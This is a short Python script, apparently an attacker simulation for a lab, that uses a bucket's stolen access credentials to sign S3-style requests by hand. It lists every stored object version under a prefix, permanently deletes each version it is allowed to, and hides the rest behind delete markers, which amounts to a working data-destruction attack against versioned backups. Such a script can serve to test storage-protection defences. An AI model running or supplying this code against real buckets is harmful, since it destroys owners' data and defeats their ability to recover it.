"""A thief with a bucket's credentials: thief.py ENDPOINT ACCESS SECRET BUCKET PREFIX. Removes every version that he may, hides the rest behind
delete markers, and says how many of each: "removed refused hidden"."""
import datetime, hashlib, hmac, sys, urllib.error, urllib.parse, urllib.request
import xml.etree.ElementTree as xml

endpoint, access, secret, bucket, prefix = sys.argv[1:6]
host = urllib.parse.urlsplit(endpoint).netloc
SPACE = "{http://s3.amazonaws.com/doc/2006-03-01/}"


def mac(key, text):
    return hmac.new(key, text.encode(), hashlib.sha256).digest()


def ask(method, key="", **query):
    now = datetime.datetime.now(datetime.timezone.utc).strftime("%Y%m%dT%H%M%SZ")
    path = urllib.parse.quote(f"/{bucket}/{key}" if key else f"/{bucket}")
    query = "&".join(f"{urllib.parse.quote(n, safe='')}={urllib.parse.quote(v, safe='')}" for n, v in sorted(query.items()))
    headers = {"host": host, "x-amz-content-sha256": hashlib.sha256(b"").hexdigest(), "x-amz-date": now}
    names = sorted(headers)
    request = "\n".join([method, path, query, *(f"{n}:{headers[n]}" for n in names), "", ";".join(names), headers["x-amz-content-sha256"]])
    scope = f"{now[:8]}/us-east-1/s3/aws4_request"
    signing = ("AWS4" + secret).encode()
    for part in scope.split("/"):
        signing = mac(signing, part)
    text = "\n".join(["AWS4-HMAC-SHA256", now, scope, hashlib.sha256(request.encode()).hexdigest()])
    del headers["host"]
    headers["Authorization"] = f"AWS4-HMAC-SHA256 Credential={access}/{scope}, SignedHeaders={';'.join(names)}, Signature={mac(signing, text).hex()}"
    url = f"{endpoint}{path}" + (f"?{query}" if query else "")
    return urllib.request.urlopen(urllib.request.Request(url, method=method, headers=headers), timeout=10).read()


removed = refused = hidden = 0
kept = set()
# The lab's applications have far fewer than the thousand versions of a page.
for version in xml.fromstring(ask("GET", prefix=prefix, versions="")).iter(f"{SPACE}Version"):
    key, number = version.find(f"{SPACE}Key").text, version.find(f"{SPACE}VersionId").text
    try:
        ask("DELETE", key, versionId=number)
        removed += 1
    except urllib.error.HTTPError:
        refused += 1
        kept.add(key)
for key in kept:
    ask("DELETE", key)
    hidden += 1
print(removed, refused, hidden)
